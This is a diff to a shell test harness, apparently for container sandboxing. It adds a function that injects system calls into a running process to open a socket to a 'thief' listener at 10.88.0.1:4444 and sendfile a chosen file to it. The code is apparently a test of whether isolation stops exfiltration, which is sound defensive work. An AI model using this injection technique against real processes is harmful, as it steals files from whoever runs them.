@@ -82,6 +82,24 @@ inject_call() {
 	grep -E '^returned [0-9]+$' "$stage/inject.log" || { tail -n 3 "$stage/inject.log" && false; }
 }
 
+# inject_theft CONTAINER PATTERN FILE TEXT: system calls in a process that connect to the thief and send it a file, in
+# which TEXT stands.
+inject_theft() {
+	local fd secret
+	harm connect "$peer_address:4444"
+	harm read "$3"
+	thief_begin
+	fd=$(inject_call "$1" "$2" 41 2 1 0)
+	# AF_INET, port 4444, 10.88.0.1
+	inject_call "$1" "$2" 42 "${fd#* }" words:0x0100580a5c110002,0 16
+	secret=$(inject_call "$1" "$2" 257 -100 "\"$3\"" 0 0)
+	# sendfile
+	inject_call "$1" "$2" 40 "${fd#* }" "${secret#* }" 0 4096
+	inject_call "$1" "$2" 3 "${fd#* }"
+	inject_call "$1" "$2" 3 "${secret#* }"
+	thief_got "$4"
+}
+
 # inject_script NUMBER ARGUMENT…: what the debugger is to do. The data of arguments lies below the stack.
 # shellcheck disable=SC2016
 inject_script() {
